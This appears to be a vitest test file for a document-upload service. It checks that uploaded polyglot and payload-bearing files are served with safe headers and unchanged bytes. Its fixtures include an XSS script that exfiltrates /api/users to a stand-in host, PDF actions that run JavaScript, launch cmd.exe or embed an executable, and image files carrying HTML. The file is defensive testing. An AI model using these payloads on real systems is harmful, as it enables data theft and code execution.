import { createHash } from 'node:crypto'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { documentWorld } from './test-document-world.ts'
import { fileOf, jpeg, pdf, pdfOf, png } from './test-files.ts'

const script = '<script>fetch("/api/users").then((all) => all.text()).then((all) => open("//haulm.example/" + all))</script>'
const page = `<!doctype html><html><body>${script}</body></html>`

/**
 * Files that are valid as what they are, but something else to a program that trusts their name, their sender, or a part of them.
 */
const hostile: [string, string, Buffer][] = [
  [
    'a PDF that runs a script when it is opened',
    'application/pdf',
    pdfOf('/OpenAction<</S/JavaScript/JS(app.alert\\("x"\\); this.submitForm\\("https://haulm.example"\\))>>'),
  ],
  ['a PDF that starts a program', 'application/pdf', pdfOf('/OpenAction<</S/Launch/F(cmd.exe)>>')],
  [
    'a PDF with a file in it',
    'application/pdf',
    pdfOf('/Names<</EmbeddedFiles<</Names[(run.exe)<</F(run.exe)/EF<</F 4 0 R>>>>]>>>>', [
      '<</Type/EmbeddedFile/Length 2>>stream\nMZ\nendstream',
    ]),
  ],
  ['a PDF that is a page, too', 'application/pdf', pdf(page)],
  ['a PDF that is a script, too', 'application/pdf', pdf('*/=1;alert(document.cookie)/*')],
  ['a PDF that is an archive, too', 'application/pdf', pdfOf('', [`<</Length 22>>stream\n${endOfArchive()}\nendstream`])],
  ['a JPEG with a page in its comment', 'image/jpeg', jpeg(page)],
  ['a PNG with a page in its comment', 'image/png', png(page)],
]

/** An empty archive: programs look for this from the end of a file. */
function endOfArchive(): string {
  return `PK\u0005\u0006${'\0'.repeat(18)}`
}

let here: Awaited<ReturnType<typeof documentWorld>>
beforeAll(async () => {
  here = await documentWorld()
})
afterAll(() => here.close())

test.each(hostile)('%s is served as what it is, and nothing in it runs', async (_, type, file) => {
  const { api, send } = here
  const sent = await send(file, { name: 'ticket.html', headers: { 'content-type': 'text/html' } })
  expect(sent).toMatchObject({ status: 201, body: { type } })
  const { id } = sent.body
  const harmless = {
    'content-type': type,
    'x-content-type-options': 'nosniff',
    // Without scripts, forms or an origin of its own.
    'content-security-policy': 'sandbox',
    'cross-origin-resource-policy': 'same-origin',
  }
  for (const [headers, query] of [
    [{}, ''],
    [{ range: 'bytes=9-' }, ''],
    [{}, '?download=1'],
  ] as const) {
    const served = await fileOf(api, id, headers, query)
    expect(Object.fromEntries(served.headers)).toMatchObject(harmless)
    expect(served.headers.get('content-disposition')).toMatch(/\.(pdf|jpg|png)"/)
  }
  const { bytes } = await fileOf(api, id)
  expect(createHash('sha256').update(bytes).digest('hex')).toBe(createHash('sha256').update(file).digest('hex'))
})
